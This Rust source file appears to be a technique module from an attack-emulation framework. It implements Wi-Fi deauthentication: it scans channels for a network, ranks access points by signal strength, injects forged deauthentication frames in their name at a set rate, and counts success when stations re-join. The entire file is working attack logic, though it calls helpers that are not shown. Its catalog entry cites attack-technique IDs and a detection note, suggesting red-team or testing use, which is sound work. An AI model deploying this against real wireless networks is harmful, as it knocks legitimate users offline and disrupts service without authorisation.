//! Sends stations away from their access points with forged frames.

use super::craft::radio::{DWELL, Scan, forged, ssid};
use super::{Progress, Technique};
use crate::catalog::Entry;
use crate::net::port::Input;
use crate::parameters::{Network, Parameters};
use crate::time::Duration;
use crate::wire::Mac;
use crate::wire::dot11::Dot11Body;

/// Technique `deauthenticate`.
#[derive(Debug)]
pub(super) struct Deauthenticate;

/// What a step gives to it.
#[derive(Clone, Debug, Parameters)]
pub(super) struct Params {
    /// Network; all that it can hear if not given.
    network: Option<Network>,
    /// How many access points, strongest first, a network at an access point counting as one; all if not given.
    #[param(range = 1..=1000)]
    access_points: Option<u32>,
    /// Frames, over all access points.
    #[param(default = 10, range = 0.001..=10000, unit = "per second")]
    rate_per_second: f64,
    /// How long.
    #[param(key = "for", default = "5m")]
    span: Duration,
}

/// What an attempt remembers.
#[derive(Clone, Debug, Default)]
pub(super) struct State {
    scan: Scan,
    /// Frames that it has sent.
    sent: u32,
}

type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, Deauthenticate>;

static ENTRY: Entry = Entry {
    id: "deauthenticate",
    title: "Forge deauthentication frames",
    summary: "Sends frames that claim to come from the access points of a network and tell every station in range to leave, at a rate, access point \
              after access point. A station that does not ask for protected management frames leaves and joins again. Succeeds if stations were heard \
              to join again. It first asks on each channel which networks there are, unless it knows. A sensor on the channel sees frames from an \
              access point that the access point did not send.",
    parameters: Params::PARAMETERS,
    relations: Params::RELATIONS,
    references: &["T1498.001", "T0814", "domain notes 3.5"],
};

const TOKEN_LOOK: u32 = 1;
const TOKEN_SEND: u32 = 2;
const TOKEN_END: u32 = 3;

/// Whether it knows a network to send in the name of.
fn knows(step: &Step<'_, '_, '_>) -> bool {
    let mut named = step
        .knowledge
        .radio
        .named(ssid(step.params.network.as_ref()));
    named.next().is_some()
}

/// Looks on the next channel, or begins to send.
fn look(step: &mut Step<'_, '_, '_>) -> Progress {
    if let Some(channel) = step.state.scan.next() {
        step.ask_networks(channel);
        step.hands.timer(DWELL, TOKEN_LOOK);
        return Progress::Wait;
    }
    if !knows(step) {
        return Progress::Failed("no such network on the air");
    }
    step.hands.timer(step.params.span, TOKEN_END);
    send(step);
    Progress::Reached(1)
}

fn send(step: &mut Step<'_, '_, '_>) {
    let named = step
        .knowledge
        .radio
        .named(ssid(step.params.network.as_ref()));
    let mut targets: Vec<(i8, Mac, u8)> = named.map(|n| (n.dbm, n.bssid, n.channel)).collect();
    targets.sort_by_key(|t| (-i16::from(t.0), t.1));
    if let Some(most) = step.params.access_points {
        targets.truncate(most as usize);
    }
    let (_, bssid, channel) = targets[step.state.sent as usize % targets.len()];
    step.state.sent += 1;
    step.hands.monitor(channel);
    step.hands.inject(forged(bssid));
    let pause = Duration::from_secs_f64(1.0 / step.params.rate_per_second);
    step.hands.timer(pause, TOKEN_SEND);
}

impl Technique for Deauthenticate {
    type Params = Params;
    type State = State;
    const ENTRY: &'static Entry = &ENTRY;
    const STAGES: &'static [&'static str] = &["look", "send", "stations leave"];

    fn patience(params: &Params) -> Duration {
        params.span + Duration::from_mins(1)
    }

    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
        match input {
            Input::Begin => {
                if knows(step) {
                    step.state.scan = Scan::OVER;
                }
                look(step)
            }
            Input::Timer(TOKEN_LOOK) => look(step),
            Input::Timer(TOKEN_SEND) => {
                send(step);
                Progress::Wait
            }
            Input::Timer(TOKEN_END) => {
                step.hands.stop_monitoring();
                if step.stage >= 2 {
                    Progress::Done("stations left and joined again")
                } else {
                    Progress::Failed("no station left")
                }
            }
            Input::Overheard(heard) => {
                step.note(heard);
                let joins = matches!(
                    heard.frame.body,
                    Dot11Body::Authentication { sequence: 1, .. }
                );
                if joins && step.stage == 1 {
                    step.hands.learned("that stations leave");
                    return Progress::Reached(2);
                }
                Progress::Wait
            }
            _ => Progress::Wait,
        }
    }
}
